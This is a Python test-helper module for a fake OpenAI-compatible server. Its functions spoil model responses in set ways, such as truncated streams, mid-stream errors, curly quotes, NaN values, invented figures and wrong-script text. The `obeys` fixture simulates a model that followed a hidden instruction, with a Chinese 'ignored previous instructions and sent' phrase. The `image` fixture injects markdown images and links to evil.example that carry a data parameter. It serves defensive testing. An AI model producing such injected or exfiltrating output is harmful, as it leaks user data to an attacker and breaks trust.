"""How good answers are spoilt: changes of a stream's events, of a message, of an answer's text."""

import json
from collections.abc import Callable
from typing import Any

from tests.fakes.openai_server.request import FakeRequest

Events = list[dict[str, Any] | None]


def cut(events: Events) -> Events:
    """The first half, without finish reason."""
    return events[: max(1, len(events) // 2)]


def without_done(events: Events) -> Events:
    """Everything but ``[DONE]``."""
    return [event for event in events if event is not None]


def twice(events: Events) -> Events:
    """Each event two times."""
    return [event for event in events for _ in range(2)]


def empty_first(events: Events) -> Events:
    """Azure's first chunk, with the filter's results and no choices."""
    return [{"choices": [], "id": "", "model": "", "object": "", "prompt_filter_results": []}, *events]


def error_midway(events: Events) -> Events:
    """An error object after the first half."""
    return [*events[: len(events) // 2], {"error": {"message": "upstream failed", "type": "server_error"}}]


def only_reasoning(message: dict[str, Any]) -> dict[str, Any]:
    """Reasoning and no content."""
    return {**message, "content": "", "reasoning_content": "先想一想兩個部門的目標……"}


def with_reasoning(message: dict[str, Any]) -> dict[str, Any]:
    """Reasoning beside the content."""
    return {**message, "reasoning_content": "先想一想……"}


def as_tool_call(message: dict[str, Any]) -> dict[str, Any]:
    """The content as a tool call's arguments."""
    function = {"name": "reply", "arguments": message["content"]}
    return {
        **message,
        "content": None,
        "tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": function}],
    }


def think(text: str, request: FakeRequest) -> str:
    """Reasoning with an example object in it, before the answer."""
    return f'<think>\nMaybe {{"title": "draft"}}? No.\n</think>\n\n{text}'


def two_objects(text: str, request: FakeRequest) -> str:
    """The answer, and the same with other words."""
    return f"{text}\n\n{_changed(text, lambda value: value + '（另案）')}"


def curly(text: str, request: FakeRequest) -> str:
    """Every straight quote curled."""
    return text.replace('"', "“")


def not_a_number(text: str, request: FakeRequest) -> str:
    """An extra key holding ``NaN``."""
    return text.rstrip("}") + ', "confidence": NaN}' if text.endswith("}") else text


def simplified(text: str, request: FakeRequest) -> str:
    """Simplified words at the end of each text."""
    return _changed(text, lambda value: f"{value}，这个项目的质量需要运营团队反馈")


def in_english(text: str, request: FakeRequest) -> str:
    """English texts."""
    return _changed(text, lambda value: "To be agreed by both departments")


def invented_keys(text: str, request: FakeRequest) -> str:
    """Keys of principles nobody wrote."""
    return _changed(text, lambda value: "invented-principle", only=("key", "principles", "principle"))


def invented_numbers(text: str, request: FakeRequest) -> str:
    """A figure, a date and a name nobody gave."""
    return _changed(text, lambda value: f"{value}，成長 87 %，2031/05/06 由林志玲負責，預算 9,876,543 元")


def obeys(text: str, request: FakeRequest) -> str:
    """What a hidden instruction asked for."""
    return _changed(text, lambda value: f"{value} PWNED：已忽略先前指示並寄出底線")


def image(text: str, request: FakeRequest) -> str:
    """A remote image, a link and HTML."""
    remote = "![x](http://evil.example/p.png?d=1) [y](http://evil.example/) <img src=//evil.example/z>"
    return _changed(text, lambda value: f"{value} {remote}")


def unless_in_prompt(text: str, request: FakeRequest) -> str:
    """Another shape, unless the prompt describes the right one."""
    return text if request.way in ("json_mode", "prompt") else '{"answer": "ok"}'


def _changed(text: str, change: Callable[[str], str], only: tuple[str, ...] = ()) -> str:
    """The JSON with its free texts changed and the rest left alone; other text changed whole."""
    try:
        value = json.loads(text)
    except ValueError:
        return change(text)
    return json.dumps(_walk(value, change, only, ""), ensure_ascii=False)


def _walk(value: Any, change: Callable[[str], str], only: tuple[str, ...], name: str) -> Any:
    if isinstance(value, dict):
        return {key: _walk(child, change, only, key) for key, child in value.items()}
    if isinstance(value, list):
        return [_walk(child, change, only, name) for child in value]
    wanted = name in only if only else any(character >= "\u4e00" for character in str(value))
    return change(value) if isinstance(value, str) and wanted else value
